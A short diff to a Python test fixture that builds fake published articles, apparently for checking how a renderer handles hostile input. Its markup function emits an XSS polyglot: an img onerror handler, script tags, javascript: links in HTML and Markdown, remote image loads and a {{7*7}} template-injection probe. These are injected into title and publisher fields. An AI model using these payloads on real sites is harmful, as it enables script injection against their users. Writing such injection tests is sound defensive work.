@@ -53,7 +53,8 @@ def markup(address: str, where: str) -> str:
     url = f"{address}/{where}"
     return (
         f"\"'></td></bdi><img src={url}.png onerror={SCRIPT}><script>{SCRIPT}</script>"
-        f"<a href='javascript:{SCRIPT}'>x</a> ![x]({url}.svg) [y](javascript:{SCRIPT}) | | {{{{7*7}}}}"
+        f"<a href='javascript:{SCRIPT}'>x</a> ![x]({url}.svg) [y](javascript:{SCRIPT})"
+        " | | {{7*7}}"
     )
 
 
@@ -68,7 +69,7 @@ def deliver_published(landing: Path, address: str, *, pieces: int) -> None:
         given = {
             "published_at": "2026-03-01",
             "title": f"Ferry {number} is back {markup(address, 'title')}{HIDDEN}",
-            "publisher": f"{markup(address, 'outlet').removeprefix(chr(34))} Post",
+            "publisher": f"{markup(address, 'outlet')} Post",
         }
         _deliver(landing, number, _text(number), given)
 
